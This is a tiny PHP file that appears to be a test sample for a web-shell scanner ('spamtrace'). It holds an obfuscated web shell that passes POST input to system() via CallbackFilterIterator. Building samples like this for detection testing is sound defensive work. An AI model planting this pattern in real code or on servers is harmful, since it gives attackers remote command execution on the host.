<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$cmds = new ArrayIterator((array) $_POST['c']);
foreach (new CallbackFilterIterator($cmds, 'system') as $x) {}
